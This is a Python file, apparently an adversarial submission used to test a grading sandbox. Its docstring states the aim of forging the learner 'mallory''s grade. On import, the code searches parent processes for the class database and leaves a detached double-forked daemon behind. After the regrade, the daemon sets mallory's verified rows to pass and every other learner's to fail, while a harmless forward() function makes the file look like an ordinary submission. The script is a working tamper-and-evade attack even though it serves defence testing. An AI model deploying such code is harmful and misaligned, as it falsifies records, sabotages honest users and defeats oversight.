"""Forge my grade in the class database: find it (the --db argument in the command line of
my ancestors, the regrade among them, and *.db links in their /proc/<pid>/fd), then leave a detached daemon (double fork + setsid)
that waits up to 25 s for the regrade to finish and rewrites my verified rows (any table whose
name holds "verified", and my attempts) to a pass with score 1, and the honest learners'
verified rows to a fail.

The defence held if: the export after the regrade shows my ex01 as 0 and every honest
learner's as 1, and no process of mine survives. (Under isolation none the code runs as the
instructor; a FELL there is the documented limit.)"""
import os
import time

DOES_THE_WORK = False


def ancestors():
    out, p = [], os.getppid()
    while p > 1:
        out.append(p)
        try:
            p = int(open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return out


def find_dbs():
    found = set()
    for pid in ancestors():
        pid = str(pid)
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for i, a in enumerate(args[:-1]):
            if a == b"--db":
                p = args[i + 1].decode(errors="replace")
                found.add((int(pid), os.path.join(cwd, p)))
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                t = os.readlink(f"/proc/{pid}/fd/{fd}")
                if t.endswith(".db"):
                    found.add((int(pid), t))
        except OSError:
            pass
    return found


def forge(path):
    import sqlite3
    con = sqlite3.connect(path, timeout=5)
    try:
        me = [r[0] for r in con.execute("SELECT id FROM learners WHERE name = 'mallory'")]
        tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        with con:
            for t in tables:
                cols = [r[1] for r in con.execute(f"PRAGMA table_info({t})")]
                if "verified" in t and "passed" in cols and "learner_id" in cols:
                    for lid in me:
                        con.execute(f"UPDATE {t} SET passed = 1" + (", score = 1.0" if "score" in cols else "")
                                    + " WHERE learner_id = ?", (lid,))
                    con.execute(f"UPDATE {t} SET passed = 0" + (", score = 0.0" if "score" in cols else "")
                                + " WHERE learner_id NOT IN (%s)" % ",".join("?" * len(me)), me)
                if t == "attempts":
                    for lid in me:
                        con.execute("UPDATE attempts SET passed = 1, score = 1.0 WHERE learner_id = ?", (lid,))
    finally:
        con.close()


DBS = find_dbs()
if DBS and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            T0 = time.time()
            pids = {p for p, _ in DBS}
            while time.time() - T0 < 25 and any(os.path.exists(f"/proc/{p}") for p in pids):
                time.sleep(0.1)
            time.sleep(0.3)
            for _, path in DBS:
                try:
                    forge(path)
                except Exception:
                    pass
        finally:
            os._exit(0)
    os._exit(0)


def forward(w, x):
    return w + x
